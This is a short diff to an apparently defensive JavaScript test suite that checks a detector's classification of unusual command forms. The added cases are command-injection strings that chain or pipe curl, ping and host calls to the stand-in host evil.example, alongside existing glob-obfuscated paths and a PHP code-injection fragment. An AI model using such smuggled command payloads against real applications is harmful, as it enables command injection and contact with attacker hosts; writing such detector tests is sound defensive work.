@@ -34,6 +34,10 @@ describe("commands in their less usual forms", () => {
     ["/us?/menu", "command.glob"],
     ["/bin/u?ame", "command.glob"],
     ["; ip link", "command.chain"],
+    ["x;curl evil.example", "command.chain"],
+    ["x | curl evil.example/x", "command.pipe"],
+    ["x && ping evil.example", "command.chain"],
+    ["x; host evil.example", "command.chain"],
     ["; uniq menu", "command.chain"],
     // Code of scripts, of which the rest is cut off, and of Java.
     ["';print_r(menu());//", "command.code"],
